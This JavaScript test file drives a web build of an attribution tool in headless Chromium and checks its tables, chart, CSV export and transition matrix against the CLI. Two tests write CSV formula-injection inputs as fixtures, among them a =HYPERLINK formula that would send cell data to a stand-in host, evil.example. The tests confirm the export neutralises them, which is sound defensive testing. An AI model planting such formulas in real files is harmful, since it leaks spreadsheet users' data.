// The attribution section of the built page (dist/web) in real headless Chromium, with the
// real import WASM: a journey workbook (a ChannelAttribution-style path CSV, a touchpoint
// xlsx) opened through the file input shows the section, whose tables (conversions, value,
// share, removal effects) are `sheetkpi attribute FILE --model all --format json` number
// for number (and each number shown as format.js shows it), whose chart has a dataset per
// model, and whose CSV download is byte for byte `--format csv`. The model controls
// recompute it: under other options it is still the CLI's with the same flags; a value
// that cannot be read is explained beside its control, the last results staying. The
// transition matrix on request is the CLI's `--transition-matrix`, capped for big chains.
// A campaign workbook shows no section. Screenshots in test-artifacts/.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { bits, glue, root } from './load.mjs';
import { openBrowser, openWorkbook, dist } from './web-harness.mjs';
import { formatNumber, initFormats } from '../../js/web/format.js';

// The same displays the page's format.js gets (the functions WASM's result_kinds()).
initFormats(glue.result_kinds());
const artifacts = join(root, 'test-artifacts');
mkdirSync(artifacts, { recursive: true });
const skip = !existsSync(join(dist, 'report.js'));
const browser = await openBrowser();
const downloads = mkdtempSync(join(tmpdir(), 'sheetkpi-web-attr-'));
after(async () => {
  await browser.close();
  rmSync(downloads, { recursive: true, force: true });
});
const { page, errors } = await browser.open('/');

/** `sheetkpi attribute FILE --model all ARGS --format FORMAT`: its stdout (must exit 0). */
function cli(file, args = [], format = 'json') {
  const bin = process.env.SHEETKPI_BIN || join(root, 'target/debug/sheetkpi');
  const r = spawnSync(bin, ['attribute', file, '--model', 'all', ...args, '--format', format], { encoding: 'utf8', maxBuffer: 64 << 20 });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout;
}
const cliAttribution = (file, args) => JSON.parse(cli(file, args));

/** Every part's table as shown equals the CLI's JSON `want`, bit for bit and as format.js shows it. */
async function assertTables(want) {
  const models = Object.keys(want.models);
  const channels = want.models[models[0]].map((c) => c.channel);
  for (const [part, kind] of [['conversions', 'count'], ['value', 'money'], ['share', 'fraction']]) {
    const rows = await shownTable(part);
    assert.deepEqual(rows.map((r) => r.channel), [...channels, 'Total'], part);
    rows.slice(0, -1).forEach((row, i) => {
      for (const m of models) {
        const cell = row.cells[m];
        const x = want.models[m][i][part];
        assert.equal(bits(Number(cell.value)), bits(x), `${part} ${m} ${row.channel}: ${cell.value} vs ${x}`);
        assert.equal(cell.kind, kind);
        // Shown through the same display the page uses (en-US, as the browser runs here).
        assert.equal(cell.text, formatNumber(x, kind, 'en-US'), `${part} ${m} ${row.channel}`);
      }
    });
    const total = part === 'share' ? 1 : want.totals[part];
    for (const m of models) assert.equal(bits(Number(rows.at(-1).cells[m].value)), bits(total), `${part} total ${m}`);
  }
  // Markov ran, so its removal effects are shown, channel by channel, of conversions and of value.
  const removal = await page.$$eval('#attribution table[data-part="removal"] tbody tr', (trs) =>
    trs.map((tr) => [tr.dataset.channel, ...['conversions', 'value'].map((c) => tr.querySelector(`td[data-col="${c}"]`).dataset.value)]),
  );
  assert.deepEqual(
    removal.map(([c, v, w]) => [c, bits(Number(v)), bits(Number(w))]),
    channels.map((c) => [c, bits(want.removal_effects[c].conversions), bits(want.removal_effects[c].value)]),
  );
  // The warnings as the CLI gives them.
  const warnings = await page.$$eval('#attribution .warnings li', (l) => l.map((x) => x.textContent));
  assert.deepEqual(warnings, want.warnings);
}

/** The attribution CSV the page downloads, as text. */
async function downloadCsv(name) {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#download-attribution-csv')]);
  const saved = join(downloads, name);
  await dl.saveAs(saved);
  return { text: readFileSync(saved, 'utf8'), suggested: dl.suggestedFilename() };
}

/** Sets the model controls (option → text) and waits until the page has recomputed or refused. */
async function setOptions(values) {
  for (const [option, v] of Object.entries(values)) {
    const sel = `#attribution-${option}`;
    if (option === 'order') await page.selectOption(sel, String(v));
    else await page.fill(sel, String(v));
  }
  // Enter in a field submits the form (each field left has asked already; the latest answer counts).
  await page.press('#attribution-direct', 'Enter');
  await idle();
}

/** Waits until the attribution's latest recomputation is answered. */
function idle() {
  return page.waitForFunction(() => !document.getElementById('attribution').dataset.busy, null, { timeout: 60000 });
}

/** Opens `file` in the page; it must read without an import error. */
async function upload(file) {
  await openWorkbook(page, file);
  assert.equal(await page.isHidden('#import-error'), true, await page.textContent('#import-error'));
}

/** One part's table as shown: per channel row, per model {value, kind, text}; the total too. */
function shownTable(part) {
  return page.evaluate((part) => {
    const table = document.querySelector(`#attribution table[data-part="${part}"]`);
    return [...table.querySelectorAll('tbody tr, tfoot tr')].map((tr) => ({
      channel: tr.dataset.channel ?? 'Total',
      cells: Object.fromEntries([...tr.querySelectorAll('td')].map((td) => [td.dataset.model, { value: td.dataset.value, kind: td.dataset.kind, text: td.textContent }])),
    }));
  }, part);
}

const journeys = join(root, 'tests/fixtures/journeys');
for (const name of ['paths_ca.csv', 'touches_zh_hans.xlsx']) {
  test(`${name}: the attribution section is the CLI's, table, chart and CSV`, { skip }, async () => {
    const file = join(journeys, name);
    const want = cliAttribution(file);
    await upload(file);
    assert.equal(await page.isVisible('#attribution'), true);
    const models = Object.keys(want.models);
    assert.equal(models.length, 8);
    const channels = want.models[models[0]].map((c) => c.channel);
    await assertTables(want);
    // The chart: a dataset per model, its bars the conversions; a text alternative in words.
    const chart = await page.$eval('#attribution figure[data-chart="attribution"]', (f) => ({
      labels: JSON.parse(f.dataset.labels),
      datasets: JSON.parse(f.dataset.datasets),
      label: f.querySelector('canvas').getAttribute('aria-label'),
      drawn: f.querySelector('canvas').width > 0,
    }));
    assert.deepEqual(chart.labels, channels);
    assert.deepEqual(chart.datasets.map((d) => d.label), models);
    chart.datasets.forEach((d) => assert.deepEqual(d.data.map(bits), want.models[d.label].map((c) => bits(c.conversions)), d.label));
    assert.ok(chart.drawn);
    assert.match(chart.label, /^Conversions by channel under each attribution model\. first: /);
    // The CSV download: the very bytes of `sheetkpi attribute FILE --format csv`.
    const csv = await downloadCsv(`${name}.csv`);
    assert.equal(csv.suggested, `${name.replace(/\.[^.]+$/, '')} attribution.csv`);
    assert.equal(csv.text, cli(file, [], 'csv'));
    await page.screenshot({ path: join(artifacts, `web-attribution-${name}.png`), fullPage: true });
  });
}

test('a campaign workbook without journeys shows no attribution section', { skip }, async () => {
  await upload(join(root, 'samples/campaigns.xlsx'));
  assert.equal(await page.isHidden('#attribution'), true);
  assert.equal(await page.$$eval('#attribution *', (n) => n.length), 0);
  assert.equal(await page.isVisible('#report-table'), true);
});

test('journeys only (no KPI report): the section alone; text a spreadsheet would run is neutralised in the CSV', { skip }, async () => {
  // Norwegian journey headers the KPI report does not know: import_report fails, the journeys read.
  const file = join(downloads, 'reiser.csv');
  writeFileSync(file, 'kundereise,konvertert\n=1+1 > B,3\nB,1\n"@a, b > -C",2\n');
  const want = cliAttribution(file);
  await upload(file);
  assert.equal(await page.isVisible('#attribution'), true);
  assert.equal(await page.isHidden('#report-table'), true);
  assert.match(await page.textContent('#status'), /^Read reiser\.csv: attribution of 4 channels\.$/);
  const rows = await shownTable('conversions');
  assert.deepEqual(rows.map((r) => r.channel), ['=1+1', 'B', '@a, b', '-C', 'Total']);
  assert.deepEqual(rows.slice(0, -1).map((r) => bits(Number(r.cells.first.value))), want.models.first.map((c) => bits(c.conversions)));
  const { text } = await downloadCsv('reiser attribution.csv');
  assert.equal(text, cli(file, [], 'csv'));
  const firsts = text.trimEnd().split('\n').slice(1).map((l) => l.replace(/,[^,]*$/, '').split(',')[0]);
  // OWASP's CSV-injection rule: a leading ' makes = + - @ text; quoting keeps the comma in its field.
  assert.deepEqual(firsts, ["'=1+1", 'B', '"\'@a', "'-C"]);
  assert.match(text, /\n"'@a, b",/);
});

test('a channel named =HYPERLINK(…) is text in the CSV download, as the CLI writes it', { skip }, async () => {
  const file = join(downloads, 'hostile.csv');
  writeFileSync(file, 'path,conversions\n"=HYPERLINK(""http://evil.example/?""&A1,""open"") > Search",2\nSearch,1\n');
  await upload(file);
  assert.equal(await page.textContent('#attribution table[data-part="conversions"] tbody th'), '=HYPERLINK("http://evil.example/?"&A1,"open")');
  const { text } = await downloadCsv('hostile attribution.csv');
  assert.equal(text, cli(file, [], 'csv'));
  // A leading ' so a spreadsheet shows the text and runs no formula; the field quoted for its commas and quotes.
  assert.ok(text.split('\n')[1].startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`), text);
});

/** The transition matrix as the page shows it: {rows: [[from, to, probability]], total, note}. */
async function shownTransitions() {
  await page.waitForSelector('#attribution-transitions table[data-part="transitions"]', { timeout: 60000 });
  return page.$eval('#attribution-transitions', (d) => ({
    rows: [...d.querySelectorAll('tbody tr')].map((tr) => [tr.cells[0].textContent, tr.cells[1].textContent, Number(tr.cells[2].dataset.value)]),
    total: Number(d.querySelector('table').dataset.total),
    note: d.querySelector('#attribution-transitions-note').textContent,
  }));
}

test('the model controls: other options give the CLI numbers and CSV with the same flags; the transition matrix on request', { skip }, async () => {
  const file = join(journeys, 'touches_zh_hans.xlsx');
  await upload(file);
  // The controls start at the CLI's defaults.
  const shown = await page.$$eval('#attribution-options [data-option]', (els) => Object.fromEntries(els.map((e) => [e.dataset.option, e.value])));
  assert.deepEqual(shown, { order: '1', lookbackDays: '30', firstShare: '0.4', lastShare: '0.4', halfLife: '7', direct: 'Direct' });
  await setOptions({ order: 2, lookbackDays: '7', firstShare: '30%', lastShare: '0.5', halfLife: '2', direct: 'email' });
  assert.equal(await page.isHidden('#attribution-options-error'), true, await page.textContent('#attribution-options-error'));
  const flags = ['--order', '2', '--lookback-days', '7', '--position-shares', '30%,0.5', '--half-life', '2', '--direct', 'email'];
  const want = cliAttribution(file, flags);
  assert.notDeepEqual(want, cliAttribution(file), 'the options change the numbers');
  await assertTables(want);
  assert.equal((await downloadCsv('options.csv')).text, cli(file, flags, 'csv'));
  // The matrix of the order-2 chain, as --transition-matrix gives it.
  await page.click('#attribution-transitions summary');
  const t = await shownTransitions();
  const matrix = cliAttribution(file, [...flags, '--transition-matrix']).transition_matrix;
  assert.equal(t.total, matrix.length);
  assert.deepEqual(t.rows.map(([f, to, p]) => [f, to, bits(p)]), matrix.map((m) => [m.from, m.to, bits(m.probability)]));
  assert.match(t.note, /^The probability of each next step .* All \d+ transitions of the order-2 chain\.$/);
  assert.match(await page.textContent('#attribution-transitions summary'), /order 2/);
  // Back to order 1: the open matrix follows.
  await setOptions({ order: 1 });
  const t1 = await shownTransitions();
  assert.equal(t1.total, cliAttribution(file, [...flags.slice(2), '--transition-matrix']).transition_matrix.length);
  await page.screenshot({ path: join(artifacts, 'web-attribution-options.png'), fullPage: true });
});

test('the model controls: what cannot be read is explained at its control, the last results stay; never a fault', { skip }, async () => {
  const file = join(journeys, 'touches_zh_hans.xlsx');
  await upload(file);
  const want = cliAttribution(file);
  await setOptions({ lookbackDays: 'abc' });
  assert.equal(await page.isVisible('#attribution-options-error'), true);
  assert.match(await page.textContent('#attribution-options-error'), /^Lookback \(days\): "abc" is not a number\. The results below are still those of the last settings that worked\.$/);
  assert.equal(await page.getAttribute('#attribution-lookbackDays', 'aria-invalid'), 'true');
  assert.match(await page.getAttribute('#attribution-lookbackDays', 'aria-describedby'), /attribution-options-error/);
  await assertTables(want);
  // Read, but refused by the journeys: the engine's own words.
  await setOptions({ lookbackDays: '0' });
  assert.match(await page.textContent('#attribution-options-error'), /lookback window must be a positive number of days/);
  assert.equal(await page.getAttribute('#attribution-lookbackDays', 'aria-invalid'), null);
  await setOptions({ lookbackDays: '30', firstShare: '=1+1' });
  assert.match(await page.textContent('#attribution-options-error'), /^Position: first touch share: /);
  // Shares that read but add up to more than 1: the position model's #NUM!, as in the CLI.
  await setOptions({ firstShare: '0.8', lastShare: '0.4' });
  assert.equal(await page.isHidden('#attribution-options-error'), true);
  assert.match(await page.textContent('#attribution-failed'), /position: #NUM! The first and last touches' shares add up to more than 1\./);
  assert.equal(await page.getAttribute('#attribution table[data-part="conversions"] tbody td[data-model="position"]', 'data-value'), '#NUM!');
  // Reset: the defaults again, the CLI's default numbers.
  await page.click('#attribution-options button[type="button"]');
  await idle();
  await assertTables(want);
});

test('a big chain: the transition matrix shows its first rows and says how many are not shown', { skip }, async () => {
  // 30 channels in varied paths: more transitions than the page lists.
  const names = Array.from({ length: 30 }, (_, i) => `ch${i}`);
  let seed = 7;
  // A linear congruential generator's high bits (its low bits repeat with a short period).
  const rand = (n) => ((seed = (seed * 1103515245 + 12345) % 2147483648), Math.floor((seed / 2147483648) * n));
  const lines = ['path,total_conversions,total_null'];
  for (let i = 0; i < 1500; i++) lines.push(`${Array.from({ length: 1 + rand(6) }, () => names[rand(30)]).join(' > ')},${rand(3)},${1 + rand(4)}`);
  const file = join(downloads, 'big-chain.csv');
  writeFileSync(file, lines.join('\n') + '\n');
  await upload(file);
  await page.click('#attribution-transitions summary');
  const t = await shownTransitions();
  const matrix = cliAttribution(file, ['--transition-matrix']).transition_matrix;
  assert.ok(matrix.length > 500, `${matrix.length} transitions`);
  assert.equal(t.total, matrix.length);
  assert.equal(t.rows.length, 500);
  assert.deepEqual(t.rows.map(([f, to, p]) => [f, to, bits(p)]), matrix.slice(0, 500).map((m) => [m.from, m.to, bits(m.probability)]));
  assert.match(t.note, new RegExp(`The first 500 of ${matrix.length.toLocaleString('en-US')} transitions; ${(matrix.length - 500).toLocaleString('en-US')} more are not shown\\.$`));
});

test('no console errors, and no request left localhost', () => {
  assert.deepEqual(errors, []);
  assert.deepEqual(browser.leaks(), []);
});
